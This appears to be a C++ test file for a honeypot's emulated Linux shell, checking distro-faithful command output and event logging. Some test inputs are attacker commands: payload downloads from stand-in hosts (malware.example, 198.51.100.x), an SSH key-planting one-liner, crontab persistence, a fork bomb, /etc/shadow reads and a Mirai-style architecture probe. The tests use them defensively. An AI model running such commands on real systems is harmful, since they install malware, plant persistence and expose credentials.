// Command output per persona: facts that must hold on the host the persona plays.
#include <gtest/gtest.h>

#include "shell_harness.h"

namespace decnet::services::shell {
namespace {

using testing::Distro;
using testing::ShellSession;

TEST(Commands, UnameAndHostnameTellThePersona) {
  ShellSession s(Distro("debian", "db-07"));
  s.shell->Start();
  EXPECT_EQ(s.Run("uname -r"), s.decky.persona.kernel() + "\n");
  EXPECT_EQ(s.Run("hostname"), "db-07\n");
  EXPECT_EQ(s.Run("uname -n"), "db-07\n");
  EXPECT_EQ(s.Run("uname -m"), "x86_64\n");
  const std::string a = s.Run("uname -a");
  EXPECT_EQ(a, "Linux db-07 " + s.decky.persona.kernel() +
                   " #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\n");
  EXPECT_EQ(s.Run("cat /etc/hostname"), "db-07\n");
  EXPECT_NE(s.Run("cat /etc/os-release").find("ID=debian\n"), std::string::npos);
  EXPECT_EQ(s.Run("cat /etc/debian_version"), "12.5\n");
  EXPECT_EQ(s.Run("whoami"), "root\n");
  EXPECT_EQ(s.Run("id"), "uid=0(root) gid=0(root) groups=0(root)\n");
}

TEST(Commands, UnameAllAsEachDistrosCoreutils) {
  ShellSession u(Distro("ubuntu22", "u"));
  u.shell->Start();
  EXPECT_TRUE(u.Run("uname -a").ends_with(" x86_64 x86_64 x86_64 GNU/Linux\n"))
      << u.Run("uname -a");
  EXPECT_NE(u.Run("uname -v").find("-Ubuntu SMP "), std::string::npos);
  ShellSession d(Distro("debian", "d"));
  d.shell->Start();
  EXPECT_TRUE(d.Run("uname -a").ends_with("(2024-02-01) x86_64 GNU/Linux\n"));
  EXPECT_EQ(d.Run("echo $BASH_VERSION"), "5.2.15(1)-release\n");
  // wget -O leaves its (empty) file behind when the download fails.
  EXPECT_EQ(d.Run("wget -q -O /tmp/p http://198.51.100.5/p; ls -l /tmp/p | awk '{print $5}'"),
            "0\n");
}

TEST(Commands, ProcAndResourceToolsAgree) {
  ShellSession s;
  s.shell->Start();
  const std::string cpus = s.Run("nproc");
  EXPECT_EQ(s.Run("cat /proc/cpuinfo | grep \"model name\" | wc -l"), cpus);
  EXPECT_EQ(s.Run("grep -c processor /proc/cpuinfo"), cpus);
  const std::string mem_kb = s.Run("grep MemTotal /proc/meminfo | awk '{print $2}'");
  EXPECT_EQ(s.Run("free | grep Mem: | awk '{print $2}'"), mem_kb);
  EXPECT_EQ(std::stoul(s.Run("free -m | grep Mem | awk '{print $2}'")), std::stoul(mem_kb) / 1024);
  EXPECT_EQ(s.Run("cat /proc/version").rfind("Linux version " + s.decky.persona.kernel() + " ", 0),
            0u);
  // /proc/uptime is the persona's uptime.
  const long up = std::stol(s.Run("cat /proc/uptime"));
  EXPECT_EQ(up, s.decky.persona.UptimeSeconds(s.decky.decky->WallUs() / 1000000));
  const std::string uptime = s.Run("uptime");
  EXPECT_NE(uptime.find(" up " + std::to_string(up / 86400) + " days, "), std::string::npos)
      << uptime;
  EXPECT_NE(s.Run("ps aux").find("sshd: root@pts/0"), std::string::npos);
  EXPECT_NE(s.Run("ps -ef").find("UID          PID    PPID  C STIME TTY          TIME CMD\n"),
            std::string::npos);
  EXPECT_EQ(s.Run("df -h").rfind("Filesystem      Size  Used Avail Use% Mounted on\n", 0), 0u);
}

TEST(Commands, EachDistroItsOwnFiles) {
  struct Case {
    const char* distro;
    const char* id_line;
    const char* prompt;
  } cases[] = {{"debian", "ID=debian\n", "root@h:~# "},
               {"ubuntu22", "ID=ubuntu\n", "root@h:~# "},
               {"rocky9", "ID=\"rocky\"\n", "[root@h ~]# "},
               {"centos7", "ID=\"centos\"\n", "[root@h ~]# "},
               {"alpine", "ID=alpine\n", "~ # "}};
  for (const Case& c : cases) {
    ShellSession s(Distro(c.distro, "h"));
    s.shell->Start();
    EXPECT_TRUE(s.term.screen.ends_with(c.prompt)) << c.distro << ": " << s.term.screen;
    EXPECT_NE(s.Run("cat /etc/os-release").find(c.id_line), std::string::npos) << c.distro;
    EXPECT_EQ(s.Run("uname -r"), s.decky.persona.kernel() + "\n") << c.distro;
    const bool debian_like = decoy::IsDebianLike(c.distro);
    EXPECT_EQ(s.Run("cat /etc/debian_version").find("No such file") == std::string::npos,
              debian_like)
        << c.distro;
  }
}

TEST(Commands, BusyboxWording) {
  ShellSession s(Distro("alpine", "cam-1"));
  s.shell->Start();
  EXPECT_EQ(s.Run("nosuch"), "-sh: nosuch: not found\n");
  EXPECT_EQ(s.Run("echo $?"), "127\n");
  EXPECT_EQ(s.Run("uname -a"),
            "Linux cam-1 " + s.decky.persona.kernel() +
                " #1-Alpine SMP PREEMPT_DYNAMIC Wed, 17 Jan 2024 09:02:48 +0000 x86_64 Linux\n");
  EXPECT_EQ(s.Run("ps").rfind("PID   USER     TIME  COMMAND\n", 0), 0u);
  EXPECT_EQ(s.Run("busybox echo hi"), "hi\n");
  EXPECT_EQ(s.Run("busybox nosuch"), "nosuch: applet not found\n");
  EXPECT_EQ(s.Run("/bin/busybox | head -1"),
            "BusyBox v1.36.1 (2023-11-07 18:53:09 UTC) multi-call binary.\n");
  EXPECT_TRUE(s.Run("ls -l /bin/ls").ends_with(" /bin/ls -> /bin/busybox\n"));
  EXPECT_EQ(s.Run("/bin/cat /etc/hostname"), "cam-1\n");  // an applet link runs the applet
  EXPECT_EQ(s.Run("wget http://198.51.100.9/m.arm7"),
            "Connecting to 198.51.100.9 (198.51.100.9:80)\nwget: can't connect to remote host "
            "(198.51.100.9): "
            "Connection refused\n");
  EXPECT_EQ(s.Run("apt install x"), "-sh: apt: not found\n");
}

TEST(Commands, ExpansionQuotingAndStatus) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("X=1; echo $X ${X} \"$X\" '$X' \\$X"), "1 1 1 $X $X\n");
  EXPECT_EQ(s.Run("echo \"$(whoami)@`hostname`\""), "root@web-01\n");
  EXPECT_EQ(s.Run("Y='a   b'; echo $Y; echo \"$Y\""), "a b\na   b\n");
  EXPECT_EQ(s.Run("echo ${UNSET:-def} ${#HOME} $((2*(3+4)))"), "def 5 14\n");
  EXPECT_EQ(s.Run("false && echo a || echo b; true && echo c"), "b\nc\n");
  EXPECT_EQ(s.Run("ls /nonexist; echo $?"),
            "ls: cannot access '/nonexist': No such file or directory\n2\n");
  EXPECT_EQ(s.Run("ls /nonexist 2>/dev/null; echo $?"), "2\n");
  EXPECT_EQ(s.Run("ls /nonexist 2>&1 | wc -l"), "1\n");
  EXPECT_EQ(s.Run("echo -n a; echo -e 'b\\tc\\x41'"), "ab\tcA\n");
  EXPECT_EQ(s.Run("printf '%s-%d\\n' x 5 y 6"), "x-5\ny-6\n");
  EXPECT_EQ(s.Run("export Z=9; env | grep ^Z="), "Z=9\n");
  EXPECT_EQ(s.Run("echo ~ ~/x"), "/root /root/x\n");
  EXPECT_EQ(s.Run("cd /tmp && touch a.sh b.sh c.txt && echo *.sh"), "a.sh b.sh\n");
}

TEST(Commands, FilesThroughTheOverlay) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f; wc -l < /tmp/f"),
            "one\ntwo\n2\n");
  EXPECT_EQ(s.Run("mkdir -p /tmp/a/b && cd /tmp/a/b && pwd && cd - && cd .. && pwd"),
            "/tmp/a/b\n/root\n/\n");
  EXPECT_EQ(s.Run("cp /tmp/f /tmp/g; mv /tmp/g /tmp/h; ls /tmp/g /tmp/h 2>&1"),
            "ls: cannot access '/tmp/g': No such file or directory\n/tmp/h\n");
  EXPECT_EQ(s.Run("chmod +x /tmp/h; ls -l /tmp/h | cut -c1-10"), "-rwxr-xr-x\n");
  EXPECT_EQ(
      s.Run(
          "printf 'echo from script\\n' > /tmp/s.sh; chmod 755 /tmp/s.sh; /tmp/s.sh; sh /tmp/s.sh"),
      "from script\nfrom script\n");
  EXPECT_EQ(s.Run("rm /tmp/h; cat /tmp/h"), "cat: /tmp/h: No such file or directory\n");
  EXPECT_EQ(s.Run("rm /tmp/a"),
            "rm: cannot remove \xe2\x80\x98/tmp/a\xe2\x80\x99: Is a directory\n");
  EXPECT_EQ(s.Run("echo hi | base64; echo aGkK | base64 -d"), "aGkK\nhi\n");
  EXPECT_EQ(s.Run("head -n 1 /etc/passwd; tail -1 /etc/passwd | cut -d: -f1"),
            "root:x:0:0:root:/root:/bin/bash\n" + s.Run("awk -F: 'NR==11 {print $1}' /etc/passwd"));
  // The bait is there and shaped like the real thing.
  EXPECT_NE(s.Run("ls -a ~").find(".bash_history"), std::string::npos);
  EXPECT_NE(s.Run("cat ~/.env").find("AWS_SECRET_ACCESS_KEY="), std::string::npos);
  EXPECT_EQ(s.Run("cat ~/.ssh/authorized_keys").rfind("ssh-ed25519 AAAA", 0), 0u);
  // The common key-planting one-liner.
  EXPECT_EQ(s.Run("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza x@y\" >> "
                  ".ssh/authorized_keys && "
                  "chmod -R go= ~/.ssh && cat .ssh/authorized_keys"),
            "ssh-rsa AAAAB3Nza x@y\n");
  EXPECT_EQ(s.Run("crontab -l; echo '* * * * * /tmp/x' | crontab -; crontab -l"),
            "no crontab for root\n* * * * * /tmp/x\n");
}

TEST(Commands, PrivilegesAndUsers) {
  ShellSession s(Distro("ubuntu22", "u1"), true, "deploy");
  s.shell->Start();
  EXPECT_TRUE(s.term.screen.ends_with("deploy@u1:~$ "));
  EXPECT_EQ(s.Run("pwd"), "/home/deploy\n");
  // A login the persona did not have is still one consistent account.
  EXPECT_EQ(s.Run("grep ^deploy: /etc/passwd"),
            "deploy:x:1001:1001:deploy,,,:/home/deploy:/bin/bash\n");
  EXPECT_EQ(s.Run("id"), "uid=1001(deploy) gid=1001(deploy) groups=1001(deploy)\n");
  EXPECT_EQ(s.Run("ls -ld ~ | awk '{print $3}'"), "deploy\n");
  // sudo asks for the user's password (not echoed), logs it, then runs the command as root.
  EXPECT_EQ(s.Type("sudo id -u"), "sudo id -u\r\n[sudo] password for deploy: ");
  EXPECT_EQ(s.Type("s3cret"), "\r\n\r\n0\r\ndeploy@u1:~$ ");
  const auto sudo = s.decky.Events("sudo_password");
  ASSERT_EQ(sudo.size(), 1u);
  EXPECT_EQ(decoy::testing::ParamOf(sudo[0], "principal"), "deploy");
  EXPECT_EQ(decoy::testing::ParamOf(sudo[0], "secret_printable"), "s3cret");
  EXPECT_EQ(s.decky.Events("command").size(), 5u);  // pwd, grep, id, ls, sudo: not the password
  EXPECT_EQ(s.Run("id -u"), "1001\n");
  EXPECT_EQ(s.Run("cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
  // Piped into sudo (nobody to ask): runs as root directly.
  EXPECT_NE(s.Run("echo | sudo cat /etc/shadow").find("root:$6$"), std::string::npos);
  EXPECT_NE(s.Run("apt install nmap").find("are you root?"), std::string::npos);
  s.Type("sudo apt-get install nmap");
  EXPECT_NE(s.Type("pw").find("Could not get lock /var/lib/dpkg/lock-frontend"), std::string::npos);
  EXPECT_EQ(s.Run("yum install x"), "-bash: yum: command not found\n");
}

TEST(Commands, PasswdAndSuAskWithoutEcho) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Type("passwd"), "passwd\r\nNew password: ");
  EXPECT_EQ(s.Type("Tr0ub4dor"), "\r\nRetype new password: ");
  EXPECT_EQ(s.Type("Tr0ub4dor"), "\r\npasswd: password updated successfully\r\nroot@web-01:~# ");
  EXPECT_EQ(s.Run("echo $?"), "0\n");
  EXPECT_EQ(s.Type("passwd"), "passwd\r\nNew password: ");
  s.Type("a");
  EXPECT_NE(s.Type("b").find("Sorry, passwords do not match."), std::string::npos);
  // ^C abandons the prompt.
  s.Type("passwd");
  s.term.Take();
  s.shell->Feed("half\x03");
  EXPECT_EQ(s.term.Take(), "^C\r\nroot@web-01:~# ");
  const auto ev = s.decky.Events("password_change");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "secret_printable"), "Tr0ub4dor");
  ShellSession u(Distro("debian", "web-01"), true, "admin");
  u.shell->Start();
  EXPECT_EQ(u.Type("su -"), "su -\r\nPassword: ");
  EXPECT_EQ(u.Type("toor"), "\r\n\r\nsu: Authentication failure\r\nadmin@web-01:~$ ");
  ASSERT_EQ(u.decky.Events("su_password").size(), 1u);
  EXPECT_EQ(decoy::testing::ParamOf(u.decky.Events("su_password")[0], "secret_printable"), "toor");
}

TEST(Commands, PasswordChangesAreCredentials) {
  ShellSession s;
  s.shell->Start();
  s.Run("echo 'root:Hunter2!' | chpasswd");
  s.Run("echo -e 'n3wpass\\nn3wpass' | passwd");
  const auto ev = s.decky.Events("password_change");
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "principal"), "root");
  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "secret_printable"), "Hunter2!");
  EXPECT_EQ(decoy::testing::ParamOf(ev[1], "secret_printable"), "n3wpass");
}

TEST(Commands, DownloadersAsTheRealToolsFail) {
  ShellSession s;
  s.shell->Start();
  const std::string w = s.Run("cd /tmp; wget http://malware.example/bot -O b");
  EXPECT_NE(
      w.find("Resolving malware.example (malware.example)... failed: Temporary failure in name "
             "resolution.\n"
             "wget: unable to resolve host address \xe2\x80\x98malware.example\xe2\x80\x99\n"),
      std::string::npos)
      << w;
  EXPECT_EQ(s.Run("curl http://198.51.100.5:8080/x"),
            "curl: (7) Failed to connect to 198.51.100.5 port 8080 after 1203 ms: Couldn't connect "
            "to server\n");
  EXPECT_EQ(s.Run("curl -s http://198.51.100.5/x; echo $?"), "7\n");
  s.Run("tftp -g -r m.mips 198.51.100.7");
  s.Run("ftpget -u a -p b 198.51.100.8 local.bin remote.bin");
  const auto ev = s.decky.Events("file_download_attempt");
  ASSERT_EQ(ev.size(), 5u);
  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "output"), "b");
  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "cwd"), "/tmp");
  EXPECT_EQ(decoy::testing::ParamOf(ev[3], "url"), "tftp://198.51.100.7/m.mips");
  EXPECT_EQ(decoy::testing::ParamOf(ev[4], "url"), "ftp://198.51.100.8/remote.bin");
  EXPECT_EQ(decoy::testing::ParamOf(ev[4], "output"), "local.bin");
}

TEST(Commands, PipelineTools) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("echo hello | tr a-z A-Z"), "HELLO\n");
  EXPECT_EQ(s.Run("echo a:b:c | tr -d :"), "abc\n");
  EXPECT_EQ(s.Run("seq 3 | xargs echo n"), "n 1 2 3\n");
  EXPECT_EQ(s.Run("echo x | tee /tmp/t; cat /tmp/t"), "x\nx\n");
  EXPECT_EQ(s.Run("basename /usr/bin/wget; dirname /usr/bin/wget"), "wget\n/usr/bin\n");
  EXPECT_EQ(s.Run("find /root -name '.b*' -type f"), "/root/.bash_history\n/root/.bashrc\n");
  EXPECT_EQ(s.Run("mkdir /tmp/d; find /tmp -type d"), "/tmp\n/tmp/d\n");
  EXPECT_EQ(s.Run("echo -n abc | sha256sum"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n");
  EXPECT_EQ(s.Run("file /bin/ls").rfind("/bin/ls: ELF 64-bit LSB pie executable, x86-64", 0), 0u);
  EXPECT_EQ(s.Run("yes | head -n 2"), "y\ny\n");
  EXPECT_EQ(s.Run("ssh root@10.0.0.9"),
            "ssh: connect to host 10.0.0.9 port 22: Connection refused\n");
  // Mirai's architecture probe: the ELF header of the shell binary.
  // (";echo": Run() needs the output to end a line)
  const std::string elf = s.Run("dd bs=52 count=1 if=/proc/self/exe 2>/dev/null; echo");
  EXPECT_EQ(elf.size(), 53u);
  ASSERT_GE(elf.size(), 20u);
  EXPECT_EQ(elf.substr(0, 4),
            "\x7f"
            "ELF");
  EXPECT_EQ(elf[4], 2);        // 64-bit
  EXPECT_EQ(elf[18], '\x3e');  // x86-64
  EXPECT_EQ(s.Run("getconf LONG_BIT"), "64\n");
}

TEST(Commands, OneStoryForVmAndServiceProbes) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("systemd-detect-virt"), "kvm\n");
  EXPECT_EQ(s.Run("cat /sys/class/dmi/id/sys_vendor"), "QEMU\n");
  EXPECT_EQ(s.Run("dmidecode -s system-manufacturer"), "QEMU\n");
  EXPECT_NE(s.Run("lscpu").find("Hypervisor vendor:     KVM"), std::string::npos);
  EXPECT_EQ(s.Run("uname -p"), "unknown\n");  // Debian's coreutils
  EXPECT_NE(s.Run("netstat -tlpn").find("0.0.0.0:22 "), std::string::npos);
  // A Telnet login shows telnetd's processes and listener, not sshd's.
  decoy::PersonaInputs in = Distro("debian");
  in.settings["telnet"]["pause_percent"] = "1";
  decoy::testing::TestDecky decky(in);
  decoy::testing::FakeConnection conn(*decky.decky, 23);
  testing::TestTerminal term;
  ShellOptions o;
  o.service = "telnet";
  o.user = "root";
  auto sh = NewShell(conn, term, o);
  sh->Start();
  term.Take();
  sh->Feed("ps aux; ss -tlpn\r");
  const std::string out = term.Take();
  EXPECT_NE(out.find("login -- root"), std::string::npos);
  EXPECT_EQ(out.find("sshd: root@pts/0"), std::string::npos);
  EXPECT_NE(out.find("0.0.0.0:23 "), std::string::npos);
  EXPECT_NE(out.find("users:((\"inetd\""), std::string::npos);
  EXPECT_EQ(decky.Events("command").size(), 1u);
  EXPECT_NE(decky.Events("command")[0].find(" telnet - command "), std::string::npos);
  sh->Close();
}

TEST(Commands, CompoundCommandsRun) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("for i in 1 2 3; do echo n$i; done"), "n1\nn2\nn3\n");
  EXPECT_EQ(s.Run("if [ -f /etc/passwd ]; then echo yes; else echo no; fi"), "yes\n");
  EXPECT_EQ(s.Run("if [ -d /nope ]; then echo a; elif [ 2 -gt 1 ]; then echo b; fi"), "b\n");
  EXPECT_EQ(s.Run("i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done"), "0\n1\n2\n");
  EXPECT_EQ(s.Run("for d in /tmp /var/tmp /dev/shm; do cd $d && break; done; pwd"), "/tmp\n");
  EXPECT_EQ(s.Run("for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done"), "1\n3\n");
  EXPECT_EQ(s.Run("(cd /etc; pwd); pwd"), "/etc\n/tmp\n");
  EXPECT_EQ(s.Run("{ echo a; echo b; } | wc -l"), "2\n");
  EXPECT_EQ(s.Run("for f in /etc/host*; do echo $f; done"), "/etc/hostname\n/etc/hosts\n");
  // An endless loop ends at the per-line step bound (the rest of that line is refused too); the
  // next line runs normally.
  EXPECT_EQ(s.Run("while true; do echo x; done | wc -l"),
            "-bash: fork: retry: Resource temporarily unavailable\n");
  EXPECT_EQ(s.Run("until false; do :; done"),
            "-bash: fork: retry: Resource temporarily unavailable\n");
  EXPECT_EQ(s.Run("echo fine"), "fine\n");
}

TEST(Commands, FunctionsAndTheForkBomb) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("greet() { echo hi $USER; }; greet; greet"), "hi root\nhi root\n");
  EXPECT_EQ(s.Run("function f { echo f; }; f; unset -f f; f"), "f\n-bash: f: command not found\n");
  EXPECT_EQ(s.Run("args() { echo $# $1 $2; shift; echo $@; }; args a b c"), "3 a b\nb c\n");
  EXPECT_EQ(s.Run("sh -c 'echo $0 $1' name one"), "name one\n");
  EXPECT_EQ(s.Run("echo 'echo $0 got $1' > /tmp/a.sh; sh /tmp/a.sh x; echo $# $1"),
            "/tmp/a.sh got x\n0\n");
  // The fork bomb runs into the nesting bound, prints bash's message, and the shell goes on.
  const std::string bomb = s.Run(":(){ :|:& };:");
  EXPECT_NE(bomb.find("maximum function nesting level exceeded"), std::string::npos);
  EXPECT_LT(bomb.size(), 64u << 10);
  EXPECT_EQ(s.Run("echo alive"), "alive\n");
  // Definitions are bounded in number and bytes.
  std::string many;
  for (int i = 0; i < 40; ++i) many += "f" + std::to_string(i) + "() { :; }; ";
  EXPECT_NE(s.Run(many).find("cannot define function"), std::string::npos);
}

TEST(Commands, WhichTypeAndTheBinDirectories) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("which ls wget nosuch; echo $?"), "/usr/bin/ls\n/usr/bin/wget\n1\n");
  EXPECT_EQ(s.Run("type cd"), "cd is a shell builtin\n");
  EXPECT_EQ(s.Run("/usr/bin/id -un; /bin/whoami"), "root\nroot\n");
  const std::string bins = s.Run("ls -1 /usr/bin");
  for (const char* cmd : {"ls\n", "wget\n", "curl\n", "busybox\n", "uname\n"})
    EXPECT_NE(bins.find(std::string("\n") + cmd), std::string::npos) << cmd;
  EXPECT_EQ(bins.find("\ncd\n"), std::string::npos);
}

}  // namespace
}  // namespace decnet::services::shell

